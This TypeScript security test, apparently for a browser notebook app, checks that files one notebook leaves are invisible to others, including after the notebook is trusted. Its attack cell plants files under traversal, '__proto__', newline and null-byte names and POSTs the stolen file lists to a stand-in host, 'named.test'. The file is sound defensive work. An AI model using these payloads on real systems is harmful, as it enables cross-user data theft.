import { notebookFile } from '../notebookFile.ts';
import { expect, test } from './attack.ts';
import { CALL_SHELL, STEAL_PORT } from './portSteal.ts';
import type { Target } from './target.ts';

/** Names under which a file would lie elsewhere, or be more than a file. */
const PATHS = [
  'planted-plain.py',
  '../planted-above',
  '/local/planted',
  'x\nplanted',
  '__proto__/planted',
  '\u0000planted',
];

/** Asks for the files that are there, leaves some, and asks again. */
const CODE = `${STEAL_PORT}
${CALL_SHELL}
const tell = async (name) => {
  stolen.answers.length = 0;
  call('keptFiles');
  await pause(400);
  await fetch('https://named.test/' + name, { method: 'POST', body: JSON.stringify(stolen.answers) });
};
await pause(400);
await tell('before');
for (const path of ${JSON.stringify(PATHS)}) call('keepFile', path, new TextEncoder().encode('planted'));
await pause(200);
await tell('after');`;

const CELLS = [{ id: 'a', type: 'module', text: CODE }] as const;

/** What the newest run of the code was told at a moment. */
const told = ({ internet }: Target, moment: string): string =>
  internet.heard.filter(({ path }) => path === `/${moment}`).at(-1)?.body ?? 'nothing';

test('files that a notebook left reach no other notebook, nor itself once the reader trusts it', async ({ target }) => {
  await target.openCells(CELLS);
  await target.runToEnd();
  expect(told(target, 'before')).not.toContain('planted');
  expect(told(target, 'after'), 'the code left files').toContain('planted-plain');
  await target.openText(notebookFile('Other', CELLS), 'other.html');
  await expect(target.cell('a')).toBeVisible();
  await target.runToEnd();
  expect(told(target, 'before'), 'of another notebook').not.toContain('planted');
  await target.openCells(CELLS);
  await target.page
    .locator('[data-bar]')
    .getByRole('button', { name: /^Trust/ })
    .click();
  const yes = target.page.locator('dialog[open]').getByRole('button', { name: /^(?:Trust|Yes)/ });
  await expect(yes).toBeEnabled();
  await yes.click();
  await expect(target.page.locator('dialog[open]')).toHaveCount(0);
  // The trusted notebook has a frame of its own.
  await expect(target.page.locator('[data-bar]')).toHaveAttribute('data-hosts', '*');
  await target.settle();
  await expect(target.cell('a')).toBeVisible();
  await target.runToEnd();
  expect(told(target, 'before'), 'under other trust').not.toContain('planted');
  expect(told(target, 'before')).not.toBe('nothing');
});
